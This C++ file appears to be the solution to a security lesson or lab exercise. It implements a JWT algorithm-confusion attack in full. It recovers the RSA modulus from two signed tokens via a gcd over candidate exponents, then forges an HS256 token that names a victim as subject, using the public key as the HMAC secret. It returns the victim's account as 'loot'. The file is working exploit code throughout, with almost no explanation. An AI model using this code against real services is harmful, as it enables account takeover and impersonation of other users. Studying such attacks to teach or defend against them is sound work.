// Unusual: tries several exponents, and does not rely on the one that it is told.
#include "base/base64url.hpp"
#include "jwt/token_parts.hpp"
#include "recovered_key.hpp"

namespace lesson {
namespace {

BigNumber multiple_of_n(const std::string& token, unsigned e) {
  const auto parts = jwt::split_token(token).value();
  const auto signature = base::base64url_decode(parts.signature).value();
  return power(BigNumber(signature), e) - padded_hash(parts.signed_bytes, signature.size());
}

}  // namespace

Loot attack(const Evidence& evidence) {
  auto token = decoded(evidence.own_tokens[1]);
  token.header.set("alg", "HS256");
  token.claims.set("sub", evidence.victim);
  for (const unsigned e : {3U, 5U, 17U}) {
    const auto a = multiple_of_n(evidence.own_tokens[0], e), b = multiple_of_n(evidence.own_tokens[1], e);
    const auto n = without_small_factors(gcd(a, b));
    const auto answer = evidence.show_me(sign_hs256(token, public_key_text(n, e)));
    if (answer.status == 200) return {.account = answer.body};
  }
  return {};
}

}  // namespace lesson
